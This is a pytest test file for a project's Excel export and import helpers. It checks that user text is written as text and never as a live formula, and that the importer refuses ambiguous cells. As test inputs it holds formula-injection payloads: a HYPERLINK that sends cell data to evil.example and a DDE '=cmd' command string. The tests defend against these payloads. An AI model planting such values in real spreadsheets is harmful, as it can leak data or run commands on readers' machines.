"""Exports that cannot attack their readers (core/excel.py): every workbook the project writes comes from
`workbook_new`, whose sheets write user text as text, never as a live formula, and the project's own import
reads it back unchanged; and imports that refuse cells they would misread (formulas without a result, merged
cells in a matrix, a second sheet of tasks)."""
from __future__ import annotations

import io
import pathlib
import re

import openpyxl
import pytest

from luoshi.core.excel import ImportFailed, open_workbook, workbook_new

ROOT = pathlib.Path(__file__).resolve().parents[3]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+2", "-3-4", "@SUM(A1:A2)", "=1+1",
           "\t=cmd", "普通文字"]


def formulas(data: bytes) -> list[str]:
    """Every cell written as a formula, in any sheet of the workbook."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_every_workbook_is_made_by_the_core_helper():
    """A writer that makes its own openpyxl Workbook would write formulas again: only core/excel.py may."""
    offenders = []
    for path in list((ROOT / "luoshi").rglob("*.py")) + list((ROOT / "bench").rglob("*.py")):
        if "/tests/" in str(path) or path.name == "excel.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bopenpyxl\.Workbook\b|from openpyxl import [^\n]*\bWorkbook\b|\bWorkbook\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert not offenders, f"create workbooks with luoshi.core.excel.workbook_new: {offenders}"


@pytest.mark.parametrize("write_only", [False, True])
def test_text_stays_text(write_only):
    wb = workbook_new(write_only=write_only)
    ws = wb.create_sheet("表") if write_only else wb.active
    ws.append(HOSTILE)
    ws.append([1, 2.5, None, "=2*3"])
    if not write_only:
        ws.cell(row=3, column=1, value="=A1")
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    assert formulas(data) == []
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
    assert list(rows[0][:len(HOSTILE)]) == HOSTILE
    assert rows[1][:4] == (1, 2.5, None, "=2*3")
    # and the project's reader takes them as the text they are
    read = open_workbook(data).worksheets[0]
    assert [c.value for c in read[1]][:len(HOSTILE)] == HOSTILE


def test_task_titles_round_trip_through_the_export(program, city, cast, travel):
    from luoshi.programs.models import Program
    from luoshi.tasks import services
    from luoshi.tasks.exporter import tasks_export_xlsx
    from luoshi.tasks.importer import tasks_import_xlsx
    from luoshi.tasks.models import Task

    p = program["program"]
    with travel("2026-01-06"):
        for title in HOSTILE[:5]:
            services.task_create(by=cast["office"], program=p, data=services.TaskInput(
                title=title, measures="-按月报送", lead_units=[city["street_a"]], deadline_phrase="6月底前"))
    data = tasks_export_xlsx(program=p, tasks=Task.objects.filter(program=p))
    assert formulas(data) == []
    with travel("2026-02-01"):
        report = tasks_import_xlsx(by=cast["office"], data=data, program_code="copy", owner_unit=city["office_unit"],
                                   year=2026)
    assert report.created == Task.objects.filter(program=p).count()
    copy = Program.objects.get(code="copy")
    assert sorted(Task.objects.filter(program=copy).values_list("title", flat=True)) == \
        sorted(Task.objects.filter(program=p).values_list("title", flat=True))
    assert set(Task.objects.filter(program=copy, title__in=HOSTILE).values_list("measures", flat=True)) == {"-按月报送"}


def test_a_public_idea_cannot_become_a_link(db, city, cast, travel):
    from luoshi.ideas.exporter import ideas_xlsx
    from luoshi.ideas.models import Idea
    from luoshi.ideas.tests.conftest import PERSONAL
    from luoshi.ideas.services import IdeaInput, campaign_create, idea_submit

    with travel("2026-04-01"):
        scheme = (ROOT / "presets" / "ideas").glob("*.yaml")
        text = next(iter(sorted(scheme))).read_text(encoding="utf-8")
        campaign = campaign_create(by=cast["office"], name="金点子征集", owner_unit=city["district"],
                                   start_date=__import__("datetime").date(2026, 3, 1),
                                   end_date=__import__("datetime").date(2026, 12, 31), scheme_text=text)
        idea_submit(campaign=campaign, data=IdeaInput(
            title=HOSTILE[0], content="=HYPERLINK(\"http://evil.example\")", topic="营商环境", source_kind="person",
            province="山东省", city="青岛市", **{**PERSONAL, "name": "=cmd|' /C calc'!A0"}))
    data = ideas_xlsx(campaign=campaign, ideas=Idea.objects.filter(campaign=campaign), personal=True)
    assert formulas(data) == []
    values = [v for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True) for v in row]
    assert HOSTILE[0] in values and "=cmd|' /C calc'!A0" in values


def _sheet_xml_workbook(cells: str, extra: str = "") -> bytes:
    """A minimal .xlsx written by a program (no cached results), one sheet with `cells` in row 3."""
    wb = workbook_new()
    wb.active.title = "评分表"
    wb.active.append(["单位名称", "A1 指标"])
    out = io.BytesIO()
    wb.save(out)
    import zipfile

    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    dst = io.BytesIO()
    with zipfile.ZipFile(dst, "w") as z:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                body = body.replace(b"</sheetData>", f'<row r="3">{cells}</row></sheetData>'.encode())
                if extra:
                    body = body.replace(b"</worksheet>", extra.encode() + b"</worksheet>")
            z.writestr(item, body)
    return dst.getvalue()


def test_a_formula_without_its_result_is_refused_where_it_is():
    data = _sheet_xml_workbook('<c r="B3"><f>1+1</f></c>')
    with pytest.raises(ImportFailed) as e:
        open_workbook(data)
    err = e.value.errors[0]
    assert (err.sheet, err.row, err.column) == ("评分表", 3, "B") and "公式" in err.message
    # with its cached result it reads as that result
    wb = open_workbook(_sheet_xml_workbook('<c r="B3"><f>1+1</f><v>2</v></c>'))
    assert wb.active["B3"].value == 2


def test_merged_cells_in_a_matrix_are_refused():
    data = _sheet_xml_workbook('<c r="A3" t="inlineStr"><is><t>中韩街道</t></is></c>',
                               '<mergeCells count="1"><mergeCell ref="B3:B5"/></mergeCells>')
    with pytest.raises(ImportFailed) as e:
        open_workbook(data, read_only=True)
    assert "B3:B5" in e.value.errors[0].message and e.value.errors[0].row == 3
    open_workbook(data)  # a sheet read with its merged ranges (the task importer) handles them itself


def test_a_second_sheet_of_tasks_is_not_ignored(city, cast):
    from luoshi.tasks.importer import tasks_import_xlsx
    from luoshi.tasks.tests.sheets import office_sheet, task

    data = office_sheet([task("1", "建设一张网", "", "中韩街道", "", "", "6月底前")])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    wb.create_sheet("第二批").append(["1", "第二张表里的任务"])
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(ImportFailed) as e:
        tasks_import_xlsx(by=cast["office"], data=out.getvalue(), program_code="p", owner_unit=city["office_unit"],
                          year=2026)
    assert e.value.errors[0].sheet == "第二批"
